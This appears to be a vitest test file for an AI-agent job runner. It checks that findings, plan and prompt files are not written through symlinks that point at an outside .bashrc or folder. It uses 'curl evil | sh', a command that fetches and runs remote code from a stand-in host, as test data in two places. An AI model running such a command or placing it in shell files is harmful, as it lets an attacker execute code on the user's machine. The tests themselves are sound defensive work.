import {
  existsSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';

import { expect, test } from 'vitest';

import { createCommand } from '../../src/work/adapters/command.ts';
import { launchAgent } from '../../src/work/agent-launch.ts';
import { writeJobFiles } from '../../src/work/job-files.ts';
import { searchPath } from '../support/process.ts';
import { temporaryDirectory } from '../support/service.ts';
import { claim } from './job-stage.ts';

const checkout = { branch: 'agent/issue-12', baseBranch: 'main', base: 'b'.repeat(40) };

function start() {
  const directory = temporaryDirectory();
  const [home, outside] = [join(directory, 'home'), join(directory, 'outside')];
  for (const each of [home, outside]) mkdirSync(each);
  writeFileSync(join(outside, '.bashrc'), 'mine\n');
  const open = () => writeJobFiles(home, { claim, text: undefined, checkout });
  return { home, outside, open };
}

test('findings and plan are not written through links of an agent', () => {
  const { home, outside, open } = start();
  const files = open();
  symlinkSync(join(outside, '.bashrc'), join(home, 'mosaic/findings'));
  files.writeFindings('curl evil | sh');
  expect(readFileSync(join(outside, '.bashrc'), 'utf8')).toBe('mine\n');
  expect(readFileSync(join(home, 'mosaic/findings'), 'utf8')).toBe('curl evil | sh');

  rmSync(join(home, 'mosaic/plan.json'));
  symlinkSync(join(outside, '.bashrc'), join(home, 'mosaic/plan.json'));
  open();
  expect(readFileSync(join(outside, '.bashrc'), 'utf8')).toBe('mine\n');
});

test('a folder of an agent that is a link is neither read nor written', () => {
  const { home, outside, open } = start();
  const files = open();
  writeFileSync(join(outside, 'handoff'), 'secret of another claim');
  rmSync(join(home, 'mosaic'), { recursive: true });
  symlinkSync(outside, join(home, 'mosaic'));
  expect(files.readHandoff()).toBeUndefined();
  files.writeFindings('findings');
  expect(existsSync(join(outside, 'findings'))).toBe(false);
  expect(lstatSync(join(home, 'mosaic')).isDirectory()).toBe(true);
});

test('a folder in the place of a file holds nothing up', () => {
  const { home, open } = start();
  mkdirSync(join(home, 'mosaic/findings/deep'), { recursive: true });
  const files = open();
  files.writeFindings('findings');
  expect(readFileSync(join(home, 'mosaic/findings'), 'utf8')).toBe('findings');
});

test('the prompt of a later run is not written through links of an agent', () => {
  const { home, outside } = start();
  symlinkSync(join(outside, '.bashrc'), join(home, 'prompt.md'));
  symlinkSync(outside, join(home, 'tmp'));
  const { child } = launchAgent({
    adapter: createCommand(['true']),
    start: { prompt: 'curl evil | sh', home, directory: home, resume: true },
    ...{
      marker: 'm',
      environment: {},
      inherited: { PATH: searchPath },
      writable: [],
      readOnly: [],
    },
    sandbox: { mode: 'none', wrap: ({ command, args }) => ({ command, args }) },
  });
  child.kill();
  expect(readFileSync(join(outside, '.bashrc'), 'utf8')).toBe('mine\n');
  expect(readFileSync(join(home, 'prompt.md'), 'utf8')).toBe('curl evil | sh');
  expect(lstatSync(join(home, 'tmp')).isDirectory()).toBe(true);
});
